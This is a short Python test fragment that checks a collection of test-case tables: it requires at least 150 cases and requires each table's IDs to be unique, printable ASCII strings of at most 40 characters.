    assert len(cases) >= 150, {name: len(table) for name, table in TABLES.items()}
    for table in TABLES.values():
        ids = [p.id for p in table]
        assert len(ids) == len(set(ids)), ids
        assert all(i.isascii() and i.isprintable() and len(i) <= 40 for i in ids), ids
